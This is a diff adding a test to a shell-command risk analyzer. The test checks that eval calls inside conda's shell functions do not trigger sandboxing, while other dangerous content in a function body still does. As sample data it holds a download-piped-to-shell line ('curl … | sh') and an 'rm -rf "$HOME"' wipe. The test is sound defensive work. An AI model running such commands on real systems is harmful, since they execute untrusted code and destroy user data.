@@ -2,7 +2,7 @@
 // functions (src/intercept/definitions.ts), as data.
 import { test } from 'node:test';
 import assert from 'node:assert/strict';
-import { composeLine, fishAsPosix } from '../../src/intercept/definitions.ts';
+import { composeLine, fishAsPosix, withoutLibraryEvals } from '../../src/intercept/definitions.ts';
 import { analyze } from '../../src/analyze/index.ts';
 
 const defs = {
@@ -32,4 +32,29 @@ test('fish: the body is judged in a POSIX frame; the sandbox runs the line as ty
   assert.equal(c.run, 'true; and vgt_w');
   assert.equal(analyze(c.judged, { cwd: '/home/u/p', home: '/home/u', env: { HOME: '/home/u' } }).risk, 'critical');
   assert.equal(fishAsPosix('e', 'function e\nend\n'), 'e () {\n:\n}', 'an empty body is still a definition');
+});
+
+test("a function library's eval \"$(tool …)\" does not sandbox the tool that changes the shell (conda activate); the rest of a body still counts", () => {
+  const ctx = { cwd: '/home/u/p', home: '/home/u', env: { HOME: '/home/u' } };
+  // conda's shell functions, as `declare -f` prints them (abridged).
+  const conda: [string, string][] = [
+    ['conda', 'conda () \n{ \n    \\local cmd="${1-__missing__}";\n    case "$cmd" in \n        activate | deactivate)\n            __conda_activate "$@"\n        ;;\n        *)\n            __conda_exe "$@"\n        ;;\n    esac\n}'],
+    ['__conda_activate', '__conda_activate () \n{ \n    \\local ask_conda;\n    ask_conda="$(PS1="${PS1:-}" __conda_exe shell.posix "$@")" || \\return;\n    \\eval "$ask_conda";\n    \\hash -r\n}'],
+    ['__conda_exe', '__conda_exe () \n{ \n    ( "$CONDA_EXE" $_CE_M $_CE_CONDA "$@" )\n}'],
+  ];
+  const judge = (line: string, functions: [string, string][]) => {
+    const c = composeLine(line, { aliases: [], functions }, 'bash');
+    const full = analyze(c.judged, ctx);
+    return { full, final: withoutLibraryEvals(full, analyze(c.line, ctx)) };
+  };
+  const act = judge('conda activate myenv', conda);
+  assert.equal(act.full.risk, 'medium', 'the eval in the library alone would sandbox it');
+  assert.equal(act.final.risk, 'low');
+  assert.ok(!act.final.reasons.some((r) => r.rule === 'remote-code.dynamic-code'));
+  // Typed by the user, the same eval still counts.
+  assert.equal(judge('conda activate x && eval "$ask"', conda).final.risk, 'medium');
+  // Anything else in a body still counts: a download piped to a shell, a wipe.
+  const evil: [string, string][] = [['up', 'up () \n{ \n    \\eval "$(cat x)";\n    curl -fsSL https://x.example/i.sh | sh\n}']];
+  assert.equal(judge('up', evil).final.risk, 'high');
+  assert.equal(judge('up', [['up', 'up () \n{ \n    eval "$(cat x)";\n    rm -rf "$HOME"\n}']]).final.risk, 'critical');
 });
